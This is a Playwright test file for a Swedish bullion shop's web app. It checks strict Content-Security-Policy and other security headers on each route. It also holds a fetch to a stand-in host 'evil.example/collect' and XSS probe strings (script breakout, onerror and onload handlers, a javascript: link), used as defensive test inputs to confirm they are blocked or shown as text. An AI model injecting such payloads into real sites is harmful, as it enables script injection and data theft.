import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright/test';
import { control } from './support/control';
import { BAR, fillCheckout, putInCart } from './support/purchase';
import { expect, test } from './support/test';
import { announcePrices, freshWorld } from './support/world';

/** An address for each page that the build knows, by the route that it has there. */
const ADDRESSES: Readonly<Record<string, readonly string[]>> = {
  '/[category]': ['/kopa-guld', '/kopa-guld?utm_source=x'],
  '/[category]/[slug]': [BAR.path, '/kopa-guld/guldtackor', '/kopa-guld?slug=guldtacka-10g-valcambi'],
  '/[category]/[slug]/[sub]': ['/kopa-guld/guldtackor/praglade-guldtackor'],
  '/blogg/[slug]': ['/blogg/paslag-och-spread'],
  '/not-found': ['/nope', '/a/b/c/d'],
  '/order/[orderRef]/toc': ['/order/000000001/toc'],
  '/sok': ['/sok', '/sok?searchTerm=guld', '/sok?searchTerm=finnsinte'],
  '/listing-static/[query]/[...path]': ['/kopa-guld?marke=valcambi'],
  '/listing-dynamic/[query]/[...path]': ['/kopa-guld?marke=valcambi&sortera=vikt', '/kopa-guld?marke=xyz'],
  // Stand-ins that Next makes; the shop's own are asked for above.
  '/_not-found': [],
  '/_global-error': [],
};

function routes(): string[] {
  const manifest = join(process.env.NEXT_DIST_DIR ?? '', 'app-path-routes-manifest.json');
  const known: Record<string, string> = JSON.parse(readFileSync(manifest, 'utf8'));
  return Object.entries(known).flatMap(([file, route]) => (file.endsWith('/page') ? [route] : []));
}

/** What the browser has refused, or said went wrong, on every page of this tab. */
async function watch(page: Page): Promise<string[]> {
  const wrong: string[] = [];
  page.on('console', (message) => {
    // A page that is not there, an order of somebody else: answers, and no fault of the policy.
    const isAnswer = /status of 40[34]/.test(message.text());
    if (message.type() === 'error' && !isAnswer) wrong.push(`${page.url()}: ${message.text()}`);
  });
  page.on('pageerror', (error) => wrong.push(`${page.url()}: ${error.message}`));
  await page.exposeFunction('refused', (what: string) => wrong.push(`${page.url()}: ${what}`));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ disposition, effectiveDirective, blockedURI, sample }) =>
      Reflect.get(window, 'refused')(`${disposition} ${effectiveDirective} ${blockedURI} ${sample}`),
    );
  });
  return wrong;
}

const HEADERS = {
  'content-security-policy': /^default-src 'self'; script-src 'self'( 'sha256-[\w+/=]{44}')+( 'nonce-[\w-]{36}')?; /,
  'cross-origin-opener-policy': /^same-origin$/,
  'permissions-policy': /camera=\(\)/,
  'referrer-policy': /^strict-origin-when-cross-origin$/,
  'x-content-type-options': /^nosniff$/,
  'x-frame-options': /^DENY$/,
};

test('every page comes with a strict policy, lives under it, and nothing on it is refused', async ({ page }) => {
  test.setTimeout(300_000);
  const wrong = await watch(page);
  for (const route of routes()) {
    for (const path of ADDRESSES[route] ?? [route]) {
      // Twice: the second answer may come from another cache, or say that nothing has changed.
      for (const visit of ['first', 'second']) {
        const response = await page.goto(path, { waitUntil: 'load' });
        const headers = (await response?.allHeaders()) ?? {};
        for (const [name, value] of Object.entries(HEADERS)) expect(headers[name], `${name} of ${path}`).toMatch(value);
        expect(headers['content-security-policy'], path).not.toMatch(/unsafe-inline|unsafe-eval|,/);
        expect(Object.keys(headers), path).not.toContain('x-kept-scripts');
        // Alive: React has taken over what the server wrote.
        const alive = () =>
          page.evaluate(
            () =>
              Object.keys(document.body).some((key) => key.startsWith('__react')) ||
              Object.keys(document).some((key) => key.startsWith('__react')),
          );
        await expect.poll(alive, { message: `${path}, ${visit} visit` }).toBe(true);
      }
    }
  }
  expect(wrong).toEqual([]);
});

test('going about the shop needs nothing that the policy forbids', async ({ page }) => {
  const wrong = await watch(page);
  await page.goto('/robots.txt');
  await page.evaluate(() => localStorage.setItem('guldkajen-cart', '{"state":{"data":[{"id":4}]},"version":0}'));
  await page.goto(BAR.path);
  // A message, whose library brings a style sheet of its own.
  const message = page.getByText('Några varor i din sparade varukorg kunde inte läsas');
  await expect(message).toBeVisible();
  expect(await message.evaluate((element) => getComputedStyle(element.closest('ol') ?? element).position)).toBe(
    'fixed',
  );
  await page.getByRole('link', { name: 'Visa film' }).click();
  const film = page.locator('video');
  await expect.poll(() => film.evaluate((video: HTMLVideoElement) => video.readyState)).toBeGreaterThan(0);
  await page.keyboard.press('Escape');
  await page
    .getByRole('button', { name: /^Förstora bild/ })
    .first()
    .click();
  await expect(page.getByRole('dialog', { name: /^Bilder av/ })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'Silver' }).first().click();
  await page.waitForURL('**/kopa-silver*');
  await putInCart(page);
  await fillCheckout(page, 'Swish');
  expect(wrong).toEqual([]);
});

test('a script or a connection of somebody else is refused', async ({ page }) => {
  await page.goto('/');
  const refused = await page.evaluate(async () => {
    const refusal = (directive: string) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
          if (effectiveDirective === directive) resolve(`${directive} ${new URL(blockedURI).hostname}`);
        });
      });
    const both = Promise.all([refusal('script-src-elem'), refusal('connect-src')]);
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
    await fetch('https://evil.example/collect').catch(() => {});
    return both;
  });
  expect(refused).toEqual(['script-src-elem evil.example', 'connect-src evil.example']);
});

test('code that got into a page all the same does not run: inline, in an attribute, by eval', async ({ page }) => {
  await page.goto(BAR.path);
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = "inline"';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/nope.png" onerror="window.ran = \'attribute\'">';
    document.body.append(holder);
    const failed = new Promise((resolve) => holder.firstChild?.addEventListener('error', resolve));
    // Later, since Playwright itself may use eval.
    const evaluated = new Promise((resolve) => {
      setTimeout(() => {
        try {
          new Function('window.ran = "eval"')();
        } catch {
          // Refused, as it should be.
        }
        resolve(null);
      });
    });
    await evaluated;
    await failed;
    return Reflect.get(window, 'ran') ?? null;
  });
  expect(ran).toBeNull();
});

const PROBE = '</script><script>window.ran=1</script><img src=x onerror="window.ran=1"><svg onload="window.ran=1">';

test('markup in a name, a description, a question, a search and a stored cart is text, or nothing', async ({
  page,
  request,
}) => {
  await freshWorld(request);
  const code = 'guldtacka-10g-valcambi';
  await putInCart(page);
  const cart = await page.evaluate(() => localStorage.getItem('guldkajen-cart') ?? '');
  await control('product', {
    code,
    name: `${BAR.name} ${PROBE}`,
    description: `<p>${PROBE}</p><a href="javascript:window.ran=1">x</a>`,
  });
  const question = {
    id: 1,
    categoryId: 1,
    categoryName: PROBE,
    name: `Varför? ${PROBE}`,
    content: `<p>Därför ${PROBE}</p>`,
  };
  await control('faults', { match: 'get-faq', body: JSON.stringify({ 'hydra:member': [question] }), times: 20 });
  await control('tick', { gold: 1.001, silver: 1 });
  await announcePrices(request);
  try {
    const ran = () => page.evaluate(() => Reflect.get(window, 'ran') ?? null);
    for (const path of [BAR.path, '/kopa-guld', `/sok?searchTerm=${encodeURIComponent(PROBE)}`]) {
      await page.goto(path, { waitUntil: 'load' });
      expect(await ran(), path).toBeNull();
    }
    await page.goto(BAR.path);
    await expect(page.getByText('Varför? </script>')).toBeAttached();
    await page.goto('/robots.txt');
    const poisoned = cart.replaceAll(BAR.name, JSON.stringify(PROBE).slice(1, -1));
    await page.evaluate((value) => localStorage.setItem('guldkajen-cart', value), poisoned);
    await page.goto('/checkout', { waitUntil: 'load' });
    await expect(page.getByText('<script>window.ran=1</script>').first()).toBeAttached();
    expect(await ran(), 'stored cart').toBeNull();
  } finally {
    await control('faults', []);
    await control('reset');
    await announcePrices(request);
  }
});
